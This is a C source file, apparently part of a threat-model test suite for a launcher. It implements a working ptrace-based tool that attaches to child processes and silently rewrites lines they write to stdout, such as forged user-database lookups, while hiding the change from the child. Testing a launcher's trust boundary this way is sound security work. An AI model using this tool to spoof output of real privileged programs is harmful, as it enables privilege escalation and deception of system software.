/* forge-output: the caller ptraces every child of the launcher it may trace and rewrites
 * what that child writes to its stdout (docs/threat-model.md, class P: an answer the
 * launcher trusts must come from no process the caller controls). Made for the user
 * database lookups the launcher once ran as the caller (getent): a line that starts with
 * PREFIX is replaced by REPLACEMENT, and the write reports the original length so the
 * child goes on as if nothing happened. */
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#define MAX_TRACED 64
#define MAX_RULES 8

struct tracee {
    pid_t pid;
    int rewrite_pending; /* the write being entered was rewritten: fix its return value */
    unsigned long long original_len;
};

static struct tracee traced[MAX_TRACED];
static int n_traced;
static pid_t tried[4096];
static int n_tried;

static int was_tried(pid_t pid)
{
    for (int i = 0; i < n_tried; ++i)
        if (tried[i] == pid)
            return 1;
    if (n_tried < (int)(sizeof tried / sizeof tried[0]))
        tried[n_tried++] = pid;
    return 0;
}

/* The children of PARENT (every thread's children file, else a scan of /proc). */
static int children_of(pid_t parent, pid_t *out, int max)
{
    int n = 0;
    char path[64], buf[4096];
    snprintf(path, sizeof path, "/proc/%d/task/%d/children", (int)parent, (int)parent);
    FILE *f = fopen(path, "re");
    if (f) {
        int pid;
        while (n < max && fscanf(f, "%d", &pid) == 1)
            out[n++] = pid;
        fclose(f);
        return n;
    }
    DIR *d = opendir("/proc");
    if (!d)
        return 0;
    struct dirent *e;
    while (n < max && (e = readdir(d))) {
        int pid = atoi(e->d_name);
        if (pid <= 0)
            continue;
        snprintf(path, sizeof path, "/proc/%d/stat", pid);
        FILE *s = fopen(path, "re");
        if (!s)
            continue;
        if (fgets(buf, sizeof buf, s)) {
            char *close = strrchr(buf, ')');
            int ppid = 0;
            if (close && sscanf(close + 2, "%*c %d", &ppid) == 1 && ppid == parent)
                out[n++] = pid;
        }
        fclose(s);
    }
    closedir(d);
    return n;
}

static void drop_tracee(int i)
{
    traced[i] = traced[--n_traced];
}

int attack_forge_output(int argc, char **argv)
{
    const char *prefix[MAX_RULES], *replacement[MAX_RULES];
    int rules = 0, i = 0;
    for (; i + 1 < argc && strcmp(argv[i], "--") != 0 && rules < MAX_RULES; i += 2, ++rules) {
        prefix[rules] = argv[i];
        replacement[rules] = argv[i + 1];
    }
    if (i >= argc || strcmp(argv[i], "--") != 0 || i + 1 >= argc) {
        fprintf(stderr, "usage: forge-output PREFIX REPLACEMENT [PREFIX REPLACEMENT...] -- PROG [ARGS...]\n");
        return 2;
    }
    char **prog = argv + i + 1;

    pid_t child = fork();
    if (child < 0)
        attack_die("fork");
    if (child == 0) {
        execv(prog[0], prog);
        _exit(127);
    }

    long attached = 0, refused = 0, rewritten = 0;
    int status = 0;
    for (;;) {
        pid_t done = waitpid(child, &status, WNOHANG);
        if (done == child)
            break;
        pid_t kids[64];
        int n = children_of(child, kids, 64);
        for (int k = 0; k < n; ++k) {
            int known = 0;
            for (int t = 0; t < n_traced; ++t)
                known |= traced[t].pid == kids[k];
            if (known || n_traced == MAX_TRACED)
                continue;
            if (ptrace(PTRACE_SEIZE, kids[k], 0, PTRACE_O_TRACESYSGOOD) != 0) {
                if (errno == EPERM && !was_tried(kids[k]))
                    ++refused; /* counted once: a child is refused until it execs */
                continue;
            }
            ptrace(PTRACE_INTERRUPT, kids[k], 0, 0);
            traced[n_traced++] = (struct tracee){kids[k], 0, 0};
            ++attached;
        }
        for (int t = 0; t < n_traced; ++t) {
            int st;
            pid_t pid = traced[t].pid;
            pid_t r = waitpid(pid, &st, WNOHANG | __WALL);
            if (r == 0)
                continue;
            if (r < 0 || WIFEXITED(st) || WIFSIGNALED(st)) {
                drop_tracee(t--);
                continue;
            }
            if (!WIFSTOPPED(st))
                continue;
            int sig = WSTOPSIG(st);
            int inject = 0;
            if (sig == (SIGTRAP | 0x80)) {
                struct user_regs_struct regs;
                if (ptrace(PTRACE_GETREGS, pid, 0, &regs) == 0) {
                    if (traced[t].rewrite_pending && regs.rax != (unsigned long long)-ENOSYS) {
                        regs.rax = traced[t].original_len; /* the exit of the rewritten write */
                        ptrace(PTRACE_SETREGS, pid, 0, &regs);
                        traced[t].rewrite_pending = 0;
                    } else if (regs.orig_rax == SYS_write && regs.rdi == 1 && regs.rax == (unsigned long long)-ENOSYS) {
                        char text[4096];
                        size_t len = regs.rdx < sizeof text ? regs.rdx : sizeof text;
                        struct iovec local = {text, len}, remote = {(void *)regs.rsi, len};
                        if (process_vm_readv(pid, &local, 1, &remote, 1, 0) == (ssize_t)len) {
                            for (int k = 0; k < rules; ++k) {
                                size_t pl = strlen(prefix[k]), rl = strlen(replacement[k]);
                                if (len < pl || memcmp(text, prefix[k], pl) != 0)
                                    continue;
                                struct iovec from = {(void *)replacement[k], rl}, to = {(void *)regs.rsi, rl};
                                if (process_vm_writev(pid, &from, 1, &to, 1, 0) != (ssize_t)rl)
                                    break;
                                traced[t].original_len = regs.rdx;
                                traced[t].rewrite_pending = 1;
                                regs.rdx = rl;
                                ptrace(PTRACE_SETREGS, pid, 0, &regs);
                                ++rewritten;
                                break;
                            }
                        }
                    }
                }
            } else if (st >> 16 == PTRACE_EVENT_STOP) {
                inject = 0; /* the interrupt or a group stop */
            } else {
                inject = sig;
            }
            ptrace(PTRACE_SYSCALL, pid, 0, inject);
        }
    }
    fprintf(stderr, "forge-output: attached %ld refused %ld rewritten %ld\n", attached, refused, rewritten);
    if (WIFEXITED(status))
        return WEXITSTATUS(status);
    return 128 + (WIFSIGNALED(status) ? WTERMSIG(status) : 0);
}
